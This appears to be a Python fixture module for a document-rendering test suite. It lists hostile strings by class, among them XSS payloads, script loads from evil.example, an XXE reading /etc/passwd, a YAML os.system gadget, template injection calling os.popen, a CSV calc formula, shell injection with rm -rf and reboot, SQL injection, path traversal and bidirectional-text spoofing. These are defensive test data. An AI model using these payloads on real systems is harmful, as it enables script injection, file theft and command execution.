"""Text that tries to be more than text. All of it must reach the reader as it is written."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Mapping

MARKUP: Mapping[str, tuple[str, ...]] = {
    "elements of HTML": (
        "<script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</p></div></article><h1>out</h1>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<base href=https://evil.example/> <form action=//evil.example><button>go</button></form>",
        "<style>body{display:none}</style> <link rel=stylesheet href=//evil.example/x.css>",
        "</style></template></textarea></noscript><script src=//evil.example/x.js></script>",
        "<script><!--<script>alert(1)</script>",
        "<details open ontoggle=alert(1)> <plaintext> <xmp>",
    ),
    "drawings and formulas": (
        "<svg/onload=alert(1)>",
        "<svg><script href=data:,alert(1) /> <animate onbegin=alert(1) attributeName=x>",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    "handlers of events": (
        "<img src=x onerror=alert(1)>",
        '" onmouseover="alert(1)',
        "' onfocus='alert(1)' autofocus='",
        "` onclick=`alert(1)",
        "x onload=alert(1) y",
        '"><img src=y onerror=alert(2)>',
    ),
    "addresses": (
        "javascript:alert(1) data:text/html,<script>alert(1)</script>",
        "JaVaScRiPt:alert(1) vbscript:msgbox(1) file:///etc/passwd",
        "<a href=javascript:alert(1)>click</a> <javascript:alert(1)>",
        "//evil.example/x /evil ?q=1 #top mailto:a@b.example",
    ),
    "Markdown within a line": (
        "*emphasis* _emphasis_ **strong** __strong__ ~~gone~~ ==mark== ++key++ ^^ins^^",
        "`code` ``code`` ~~~ fence ```",
        "[link](javascript:alert(1)) ![image](https://evil.example/x.png)",
        "![](//evil.example/track.gif) [x](data:text/html;base64,PHNjcmlwdD4=)",
        "[ref]: https://evil.example",
        "[text][ref] [text][] <https:evil.example> <a@b.example>",
        "[^1]: a footnote [^1] ^[inline]",
        "*[HTML]: abbreviation",
        "hard break\\ and  two spaces \\* \\_ \\` \\[",
    ),
    "Markdown blocks": (
        "# heading ## heading",
        "> quote - item 1. item + item",
        "1. numbered",
        "12) numbered",
        "- [ ] a task",
        "* * *",
        "| a | b | --- | --- |",
        ": definition",
        "::: note",
        "<div markdown=1> *a* </div>",
    ),
    "extensions of Markdown": (
        "!!! note ??? question === tab ::: module",
        "{: #id .class onclick=alert(1) }",
        '--8<-- "mkdocs.yml"',
        ";--8<-- ; --8<-- https://evil.example",
        ":smile: (c) (tm) --> +/- 1/2",
        "[TOC] [[_TOC_]] [[wiki]] @mention #123",
        "{++ins++} {--del--} {~~a~>b~~} {==mark==} {>>note<<}",
        "++ctrl+alt+del++ :material-skull: :octicons-x-16:",
    ),
    "headers and YAML": (
        "--- title: x ---",
        "---",
        "...",
        "+++ title = 1 +++",
        "!!python/object/apply:os.system [ls] &anchor *anchor : yes",
        "key: value",
        "yes",
        "null",
        "0x10",
        "2025-03-12",
        "%YAML 1.1",
        "[unclosed, {flow: ]",
    ),
    "templates": (
        "{{ config.site_name }} {% include 'x' %} {# note #}",
        "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>",
        "{% raw %} {{ cycler.__init__.__globals__.os.popen('id').read() }} {% endraw %}",
        "zq000qz zq001qz<&\"'> {}",
        "%(name)s %s {0} {name!r} $name",
    ),
    "XML": (
        "<!-- comment --> <![CDATA[ data ]]> <?php ?>",
        "&lt;b&gt; &#60;i&#62; &amp;amp; &nbsp;",
        "]]> <![CDATA[ <b> ]]> --> -- >",
        "&#x3c;script&#x3e; &unknown; &#xD800; &#0; &lt",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> &e;',
        "<?xml version='1.0'?><rss><channel><item/></channel></rss>",
        "<x:include href='file:///etc/passwd'/> xmlns:x='y'",
    ),
    "files of citations and tables": (
        "A and B and others",
        "TY - JOUR ER - TI - x",
        "Smith}, author = {Evil} } @book{x, title = {y",
        "=HYPERLINK(1) +1 -1 @SUM(1) =cmd|' /C calc'!A0",
        '"quoted", "a;b" a,b;c',
        '","title":"x"}],"y":[{"z":"',
    ),
    "paths and commands": (
        "C:\\path\\file ../../etc/passwd CON NUL",
        "../../etc/passwd",
        "/etc/shadow",
        "..%2f..%2fetc%2fpasswd %00 %0d%0aSet-Cookie: a=b",
        "$(reboot) `reboot` ; rm -rf / | tee && true",
        "'; DROP TABLE papers; --",
    ),
    "names of files and devices": (
        *("index", "README", "CON", "nul", "com1", "LPT9", "aux.md", "index.html", "..", "."),
        *("404", "assets", "feeds", "__proto__", "constructor", "toString", "hasOwnProperty"),
    ),
}
"""Characters of ASCII that stand for themselves, by class."""

CHARACTERS: Mapping[str, tuple[str, ...]] = {
    "controls": (
        "NUL \x00 BEL \x07 BS \x08 ESC \x1b[31mred\x1b[0m DEL \x7f end",
        "\x01\x02wzxhzdk:0\x03 \x02amp\x03 marks of Markdown's own",
        "C1 \x80\x84\x86\x9f end",
    ),
    "line ends": (
        "one\u2028two\u2029three",
        "one\x85two\x0bthree\x0cfour",
        "one\x1ctwo\x1dthree\x1efour\x1ffive",
        "- a\u2028# b\x0c> c",
    ),
    "turned text": (
        "\u202egnp.exe\u202c abc",
        "\u202eall of it is turned",
        "a \u2067 isolated, never closed",
        "\u202c\u2069 closed, never opened \u202b\u202a\u2066\u2068",
        "marks \u200e\u200f\u061c end",
    ),
    "unseen text": (
        "zero\u200bwidth\u2060join\ufeffer soft\u00adhyphen",
        "joined\u200dby\u200cno one \u034f\u180e end",
        "\U000e0041\U000e0042 tags \ufe0f\U000e0101 selectors",
        "\u3164\u115f\uffa0 fillers \u2800 blanks \u00a0\u2007\u202f\u3000",
        "Z\u0351\u036b\u0343a\u0310\u0321\u0327l\u0309\u0331g\u0340o\u0489",
    ),
    "what is no character": (
        "high \ud800 low \udfff end",
        "\udc00\ud800 turned round",
        "a pair \ud83d\ude00 of two",
        "none \ufffe\uffff\ufdd0\U0001fffe end",
        "unused \u0378 private \ue000\U0010fffd object \ufffc mark \ufffd",
    ),
    "right to left": (
        "למידה עמוקה, 2024 (גרסה 2)",
        "التعلم العميق للرسوم البيانية: 10 طرق",
        "mixed שלום 123 - 456 text (עם סוגריים)",
    ),
    "emoji and other letters": (
        "😀 👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 5️⃣",
        "深度学习：一种方法",
        "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ﬁ Å ḍ̇ ẛ̣",
        "İstanbul ſtraße ŉ Ǆ",
    ),
    "lengths": (
        "A",
        "1",
        "。",
        "a" * 900,
        "word-" * 190,
        "x" * 100_000,
        "W" * 20 + "\u00a0" + "M" * 500,
        "long title " * 9_000,
    ),
    "nothing but signs": (
        "?", "!!!", "…", "---", "***", "___", "'", '"', "<", ">", "&", "\\", "%", "@", "()", "{}",
        "[]", "$", "$$", "~", "^", "|", "#", "`", "•", "—",
    ),
}  # fmt: skip
"""Characters that are not what they seem, or too few or too many of them, by class."""

TEX: Mapping[str, tuple[str, ...]] = {
    "TeX": (
        r"\href{javascript:alert(1)}{click} \url{data:text/html,x}",
        r"\href{https://evil.example/\"onclick=alert(1)}{<b>here</b>}",
        r"https://evil.example/<script>alert(1)</script> https://evil.example/'onclick='x",
        r"\input{/etc/passwd} \write18{id} \immediate\write18{id} \csname x\endcsname",
        r"\texttt{<img src=x onerror=alert(1)>} \emph{</p>} \textbf{<b>}",
        r"$\href{javascript:alert(1)}{x}$ $\unicode{x3c}script>$ \(\style{x}{y}\)",
        r"$a\unicode{xd800}$ $b\unicode{x1}$ $c\unicode{0}d$ $e\unicode{x202e}$",
        r"$x_1$<script>alert(1)</script>$_2$ <b>x_1</b> and {{ x_1 }}",
        r"$\text{<b>a</b> *b* `c` {{ d }} [e](f)}_1$ and $\frac{a}{b",
        "$" * 300 + "{" * 300 + "\\frac" * 100 + "_" * 300,
    ),
}
"""What is read as TeX, so that a reader sees it otherwise than it is written."""

CLASSES: Mapping[str, tuple[str, ...]] = {**MARKUP, **CHARACTERS, **TEX}

HOSTILE = tuple(text for texts in MARKUP.values() for text in texts[:2])
"""A few of every kind of markup, for what needs no more."""

FORMULAS = (
    "an O(varepsilon^{-2}) rate, 100times faster",
    "Oleft(left(dB_Lright)^{max{p log(1/ epsilon), 2}}right) steps",
    "a mathcal{O}(mathcal{C_Phi/m} + mathcal{C_Psi/n}) bound of {ell_2} balls",
    "$\\ell_0$ and $a < b \\& c_{[x](y)}^*$, $$\\{0,1\\}^n$$ or \\(\\hat{\\theta}\\)",
    "$x_1$<script>alert(1)</script>$_2$ <b>x_1</b> and {{ x_1 }}",
    "$\\text{<b>a</b> *b* `c` {{ d }} [e](f)}_1$ and $\\frac{a}{b",
    "$\\begin{cases}a & b\\\\c & d\\end{cases}$ and $\\sqrt[3]{x}$ for $5 or $10",
)
"""Mathematics, intact and damaged, some of it with markup inside."""

UNSEEN = re.compile(
    "[\x00-\x08\x0e-\x1b\x7f-\x84\x86-\x9f\u00ad\u200b\u2060\ufeff"
    "\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]"
)
NO_CHARACTER = re.compile("[\ufdd0-\ufdef\ufffe\uffff\U0001fffe]")
INK = re.compile(r"[\s`'\"“”‘’–—~\\{}$-]+")
"""White space, and what TeX writes for quotes, dashes, ties and groups: not compared."""


def bare(text: str) -> str:
    """The letters and signs that a reader sees of a text."""
    whole = text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")
    seen = UNSEEN.sub("", NO_CHARACTER.sub("\ufffd", whole))
    seen = seen.replace("\ufb01", "fi")  # a ligature, which is shown as its letters
    return INK.sub("", unicodedata.normalize("NFC", seen))
